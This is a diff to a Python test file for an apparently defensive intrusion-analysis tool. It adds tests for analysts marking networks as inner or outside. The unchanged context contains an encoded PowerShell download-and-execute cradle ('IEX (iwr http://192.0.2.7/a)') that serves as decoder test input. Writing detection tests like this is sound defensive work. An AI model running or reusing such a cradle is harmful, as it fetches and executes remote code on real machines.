@@ -139,6 +139,10 @@ def test_over_http(loaded: tuple[Path, list[str]], tmp_path: Path) -> None:
         assert client.get(f"/incidents/{best['id']}").json() == told
         assert client.delete(f"/incident-links/{made.json()['id']}").status_code == 404
         assert [each["address"] for each in client.get("/networks").json()["outside"]] == best["outside"]
+        stated = client.put("/networks", json={"cidr": f"{best['outside'][0]}/32", "kind": "inner"}).json()
+        assert stated["networks"][0]["source"] == "analyst"
+        taken = client.delete("/networks", params={"cidr": f"{best['outside'][0]}/32"}).json()
+        assert [each["address"] for each in taken["outside"]] == best["outside"]
         token = base64.b64encode("IEX (iwr http://192.0.2.7/a)".encode("utf-16-le")).decode()
         clear = client.post("/decode", json={"text": f"powershell -enc {token}"}).json()
         assert (clear["urls"], clear["reason"]) == (["http://192.0.2.7/a"], None)
@@ -164,6 +168,29 @@ def test_a_setting_names_inner_networks(loaded: tuple[Path, list[str]], monkeypa
     assert stated == ["192.0.2.0/24", "2001:db8::/32"]
     monkeypatch.setenv("GRAPHHUNT_INNER_NETWORKS", "elsewhere")
     assert run(folder, "networks").exit_code == 2
+
+
+def test_what_an_analyst_states_of_a_network_holds_until_it_is_taken_back(loaded: tuple[Path, list[str]]) -> None:
+    """The outside address of the intrusion is none once its network is stated to be inside."""
+    folder, _ = loaded
+    before = data(folder, "networks")
+    (outside,) = first(folder)["outside"]
+    mine = next(each["cidr"] for each in before["networks"] if each["kind"] == "inner")
+    after = data(folder, "networks", "--add", outside, "--kind", "platform", "--author", "ann")
+    assert after["networks"][0] | {"machines": []} == {
+        "cidr": f"{outside}/32", "kind": "platform", "source": "analyst", "reason": "ann says so", "machines": [],
+    }  # fmt: skip
+    assert first(folder)["outside"] == []
+    data(folder, "networks", "--remove", outside)
+    assert data(folder, "networks") == before
+    assert first(folder)["outside"] == [outside]
+    away = data(folder, "networks", "--add", mine, "--kind", "outside")
+    assert mine not in [each["cidr"] for each in away["networks"] if each["kind"] == "inner"]
+    assert "an analyst says so" in str(away["outside"])
+    data(folder, "networks", "--remove", mine)
+    assert data(folder, "networks") == before
+    wrong = (["--add", "elsewhere"], ["--add", "10.0.0.0/8", "--kind", "mine"], ["--remove", "10.0.0.0/8"])
+    assert [run(folder, "networks", *given).exit_code for given in wrong] == [2] * 3
 
 
 def test_decode(tmp_path: Path) -> None:
